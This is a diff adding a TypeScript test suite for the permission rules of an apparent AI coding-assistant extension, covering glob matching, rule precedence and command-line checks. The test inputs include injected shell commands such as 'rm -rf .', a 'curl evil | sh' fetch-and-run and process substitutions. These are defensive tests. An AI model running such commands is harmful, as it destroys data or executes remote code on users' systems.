@@ -0,0 +1,204 @@
+import * as assert from "assert";
+import {
+  evaluatePermissionRules,
+  globToRegExp,
+  suggestPermissionRule,
+} from "../managers/permissionRules";
+import type {
+  PermissionRequest,
+  PermissionRule,
+} from "code-sidecar-shared/types/permissions";
+
+const fileRequest = (
+  toolName: string,
+  filePath: string,
+  operation = "write"
+): PermissionRequest => ({
+  toolName,
+  operation,
+  target: filePath,
+  details: "",
+  path: filePath,
+});
+
+const commandRequest = (command: string): PermissionRequest => ({
+  toolName: "execute_command",
+  operation: "execute",
+  target: command,
+  details: "",
+  command,
+});
+
+suite("globToRegExp", () => {
+  test("matches stars within and across directories", () => {
+    assert.ok(globToRegExp("src/*.ts").test("src/index.ts"));
+    assert.ok(!globToRegExp("src/*.ts").test("src/tools/Tool.ts"));
+    assert.ok(globToRegExp("src/**/*.ts").test("src/index.ts"));
+    assert.ok(globToRegExp("src/**/*.ts").test("src/tools/Tool.ts"));
+    assert.ok(globToRegExp("dist/**").test("dist/a/b.js"));
+  });
+
+  test("supports character classes and alternatives", () => {
+    assert.ok(globToRegExp("file?.[jt]s").test("file1.ts"));
+    assert.ok(!globToRegExp("file?.[!j]s").test("file1.js"));
+    assert.ok(globToRegExp("*.{json,md}").test("README.md"));
+    assert.ok(!globToRegExp("*.{json,md}").test("index.ts"));
+  });
+
+  test("treats other characters literally", () => {
+    assert.ok(globToRegExp("a+b(1).txt").test("a+b(1).txt"));
+    assert.ok(!globToRegExp("a.txt").test("abtxt"));
+  });
+});
+
+suite("evaluatePermissionRules", () => {
+  test("matches rules by tool, operation and path", () => {
+    const rules: PermissionRule[] = [
+      { action: "allow", tool: "write_*", path: "src/**" },
+      { action: "deny", operation: "WRITE", path: "**/*.lock" },
+    ];
+
+    assert.strictEqual(
+      evaluatePermissionRules(rules, fileRequest("write_file", "src/a.ts")),
+      "allow"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, fileRequest("apply_diff", "src/a.ts")),
+      undefined
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, fileRequest("write_file", "src/a.lock")),
+      "deny"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(
+        rules,
+        fileRequest("write_file", "src/a.lock", "read")
+      ),
+      "allow"
+    );
+  });
+
+  test("lets deny rules win over ask rules and ask rules over allow rules", () => {
+    const request = fileRequest("write_file", "src/a.ts");
+
+    assert.strictEqual(
+      evaluatePermissionRules(
+        [
+          { action: "allow", tool: "write_file" },
+          { action: "ask", path: "src/**" },
+        ],
+        request
+      ),
+      "ask"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(
+        [
+          { action: "ask", tool: "write_file" },
+          { action: "deny", path: "src/**" },
+        ],
+        request
+      ),
+      "deny"
+    );
+  });
+
+  test("matches command patterns with normalized whitespace", () => {
+    const rules: PermissionRule[] = [
+      { action: "allow", command: "npm  test*" },
+    ];
+
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("npm test -- --grep x")),
+      "allow"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("npm install")),
+      undefined
+    );
+  });
+
+  test("allows a command line only when every command is allowed", () => {
+    const rules: PermissionRule[] = [
+      { action: "allow", command: "git status" },
+      { action: "allow", command: "npm test" },
+    ];
+
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("git status && npm test")),
+      "allow"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("git status; rm -rf .")),
+      undefined
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("npm test $(rm -rf .)")),
+      undefined
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(
+        rules,
+        commandRequest("npm test <(curl evil | sh)")
+      ),
+      undefined
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("npm test >(sh)")),
+      undefined
+    );
+  });
+
+  test("denies a command line when any command is denied", () => {
+    const rules: PermissionRule[] = [
+      { action: "allow", command: "*" },
+      { action: "deny", command: "rm *" },
+    ];
+
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("ls | rm -rf .")),
+      "deny"
+    );
+    assert.strictEqual(
+      evaluatePermissionRules(rules, commandRequest("ls 2>&1")),
+      "allow"
+    );
+  });
+});
+
+suite("suggestPermissionRule", () => {
+  test("suggests the exact command, but not for compound commands", () => {
+    assert.deepStrictEqual(
+      suggestPermissionRule(commandRequest(" npm  test ")),
+      {
+        action: "allow",
+        tool: "execute_command",
+        command: "npm test",
+      }
+    );
+    assert.strictEqual(
+      suggestPermissionRule(commandRequest("npm test && npm run lint")),
+      undefined
+    );
+    assert.strictEqual(
+      suggestPermissionRule(commandRequest("echo `whoami`")),
+      undefined
+    );
+    assert.strictEqual(
+      suggestPermissionRule(commandRequest("diff <(ls a) <(ls b)")),
+      undefined
+    );
+  });
+
+  test("suggests the directory of a file", () => {
+    assert.deepStrictEqual(
+      suggestPermissionRule(fileRequest("write_file", "src/tools/a.ts")),
+      { action: "allow", tool: "write_file", path: "src/tools/**" }
+    );
+    assert.deepStrictEqual(
+      suggestPermissionRule(fileRequest("write_file", "README.md")),
+      { action: "allow", tool: "write_file", path: "README.md" }
+    );
+  });
+});